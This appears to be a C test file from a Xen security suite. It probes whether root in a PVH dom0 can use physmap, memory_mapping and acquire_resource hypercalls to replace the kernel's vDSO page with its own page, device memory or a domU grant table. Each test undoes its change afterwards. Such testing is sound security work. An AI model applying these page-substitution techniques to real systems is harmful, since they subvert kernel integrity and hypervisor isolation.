// SPDX-License-Identifier: GPL-2.0-only
/*
 * Which frame lies where in dom0's memory. For a PVH dom0 Xen keeps that map,
 * and changes it at the word of whoever asks, kernel or not: what the kernel
 * has at an address may be gone with the next access, or be something else.
 */
#include "physmap.h"

#include "../domu.h"

void populate(uint64_t page)
{
    xen_pfn_t pages[] = { page };
    struct xen_memory_reservation reservation = { .extent_start.p = pages,
                                                  .nr_extents = 1,
                                                  .domid = DOMID_SELF };

    memory_op(XENMEM_populate_physmap, &reservation);
}

void remove_page(uint64_t page)
{
    struct xen_remove_from_physmap remove = { .domid = DOMID_SELF,
                                              .gpfn = page };

    memory_op(XENMEM_remove_from_physmap, &remove);
}

/* Change what lies at @kernel; @own is a page of ours, to be lost. */
typedef void change_map(uint64_t kernel, uint64_t own);

/* Undo a change, but for what stood in the kernel's page. */
static void fill_kernel_page(uint64_t kernel, uint64_t own)
{
    (void)own;
    populate(kernel);
}

static void fill_own_page(uint64_t kernel, uint64_t own)
{
    (void)kernel;
    populate(own);
}

/*
 * Have @change done to the page of the vDSO, and see whether it has become what
 * our page was, or, if ours is not lost, anything else.
 */
static enum outcome change_kernel_page(change_map *change, change_map *undo,
                                       const char *into)
{
    const uint8_t *page = vdso_page();
    uint8_t before[PAGE_SIZE], after[PAGE_SIZE], *lost = buffer(PAGE_SIZE);
    const uint64_t own = own_frame(lost);
    uint64_t kernel;
    bool changed, wanted;

    if ( dom0_is_pv() )
        return not_applicable(
            "PVH only: of a PV dom0's memory Xen keeps no such map");
    if ( !page || !own || !(kernel = own_frame(page)) )
        return cannot_try("no frame for the kernel's page");

    memcpy(before, page, PAGE_SIZE);
    memcpy(after, page, PAGE_SIZE);
    memcpy(after + PAGE_SIZE - MARK_SIZE, new_mark(), MARK_SIZE);
    memcpy(lost, after, PAGE_SIZE);

    change(kernel, own);
    changed = !survives(touch, (void *)page) || memcmp(before, page, PAGE_SIZE);
    wanted = changed &&
             (undo != fill_own_page || !memcmp(after, page, PAGE_SIZE));
    if ( changed )
    {
        undo(kernel, own);
        copy_to_frame(kernel, 0, before, PAGE_SIZE);
    }

    return effect_either(wanted, "the kernel's vDSO", into, "unchanged");
}

static void by_remove(uint64_t kernel, uint64_t own)
{
    (void)own;
    remove_page(kernel);
}

/*
 * U-MEMSTEAL-REMOVE: take a page from under the kernel.
 *
 * Xen does not ask whether the kernel still uses it, and need not get it back.
 */
ATTACK_BY("U-MEMSTEAL-REMOVE", "take a kernel page out of dom0's memory",
          change_kernel_page(by_remove, fill_kernel_page, "is something else"))

static void by_populate(uint64_t kernel, uint64_t own)
{
    (void)own;
    populate(kernel);
}

/*
 * U-MEMSTEAL-POPULATE: put fresh memory where the kernel has a page.
 *
 * populate_physmap fills a hole, and does not mind that there is none.
 */
ATTACK_BY("U-MEMSTEAL-POPULATE", "put an empty page in a kernel page's place",
          change_kernel_page(by_populate, fill_kernel_page,
                             "is something else"))

void add_to_map(unsigned int space, uint64_t index, uint64_t page)
{
    struct xen_add_to_physmap add = { .domid = DOMID_SELF,
                                      .space = space,
                                      .size = 1,
                                      .idx = index,
                                      .gpfn = page };

    memory_op(XENMEM_add_to_physmap, &add);
}

static void by_move(uint64_t kernel, uint64_t own)
{
    add_to_map(XENMAPSPACE_gmfn, own, kernel);
}

/*
 * U-MEMSTEAL-MOVE: put a page of root's own where the kernel has one.
 *
 * Whatever the kernel has there, its code as well, is then what root wrote.
 */
ATTACK_BY("U-MEMSTEAL-MOVE", "move a page of ours to a kernel page's place",
          change_kernel_page(by_move, fill_own_page, "is a page of ours"))

static void by_range(uint64_t kernel, uint64_t own)
{
    add_to_map(XENMAPSPACE_gmfn_range, own, kernel);
}

/* U-MEMSTEAL-RANGE: the same, as a range of pages. */
ATTACK_BY("U-MEMSTEAL-RANGE", "move a range of ours to a kernel page's place",
          change_kernel_page(by_range, fill_own_page, "is a page of ours"))

void add_batch(unsigned int space, domid_t foreign, uint64_t index,
               uint64_t page)
{
    xen_ulong_t indexes[] = { index };
    xen_pfn_t pages[] = { page };
    int errors[] = { 0 };
    struct xen_add_to_physmap_batch add = { .domid = DOMID_SELF,
                                            .space = (uint16_t)space,
                                            .size = 1,
                                            .u.foreign_domid = foreign,
                                            .idxs.p = indexes,
                                            .gpfns.p = pages,
                                            .errs.p = errors };

    memory_op(XENMEM_add_to_physmap_batch, &add);
}

static void by_batch(uint64_t kernel, uint64_t own)
{
    add_batch(XENMAPSPACE_gmfn, 0, own, kernel);
}

/* U-MEMSTEAL-BATCH: the same, as a list of pages. */
ATTACK_BY("U-MEMSTEAL-BATCH", "move a list of ours to a kernel page's place",
          change_kernel_page(by_batch, fill_own_page, "is a page of ours"))

/* ---- other memory in a kernel page's place ---- */

void map_device(uint64_t frame, uint64_t page, bool add)
{
    DOMCTL(memory_mapping, 0,
           .u.memory_mapping = { .first_gfn = page,
                                 .first_mfn = frame,
                                 .nr_mfns = 1,
                                 .add_mapping = add });
}

static const uint64_t vga_frame = 0xa0; /* any device would do */

static void by_device(uint64_t kernel, uint64_t own)
{
    (void)own;
    map_device(vga_frame, kernel, true);
}

static void take_device(uint64_t kernel, uint64_t own)
{
    map_device(vga_frame, kernel, false);
    fill_kernel_page(kernel, own);
}

/*
 * U-MEMSTEAL-DEVICE: map a device where the kernel has memory.
 *
 * Made for devices that are handed to a domU, memory_mapping works on dom0, too.
 * From then on the kernel reads from the device, and what it writes is lost.
 */
ATTACK_BY("U-MEMSTEAL-DEVICE", "map a device in a kernel page's place",
          change_kernel_page(by_device, take_device, "is the display's memory"))

static void acquire_table(domid_t domid, uint64_t page)
{
    xen_pfn_t pages[] = { page };
    struct xen_mem_acquire_resource acquire = {
        .domid = domid,
        .type = XENMEM_resource_grant_table,
        .id = XENMEM_resource_grant_table_id_shared,
        .nr_frames = 1,
        .frame_list.p = pages,
    };

    memory_op(XENMEM_acquire_resource, &acquire);
}

static domid_t lender = DOMID_INVALID;

/* Without a domU: to show that this is refused as well. */
static void by_resource(uint64_t kernel, uint64_t own)
{
    (void)own;
    lender = create_domu(DOMU_HVM);
    acquire_table(lender == DOMID_INVALID ? 1 : lender, kernel);
}

static void take_resource(uint64_t kernel, uint64_t own)
{
    remove_page(kernel);
    fill_kernel_page(kernel, own);
}

/*
 * U-MAP-RES-OVER: acquire a resource where the kernel has memory.
 *
 * privcmd sees to it that a resource of another domain's lands in its caller's
 * pages. The hypercall takes any page of dom0's. A domU of root's own has a
 * grant table, which then lies where the kernel had its code.
 */
ATTACK("U-MAP-RES-OVER", "acquire a resource in a kernel page's place")
{
    const enum outcome outcome = change_kernel_page(by_resource, take_resource,
                                                    "is a domU's grant table");

    destroy_domu(lender);
    return outcome;
}
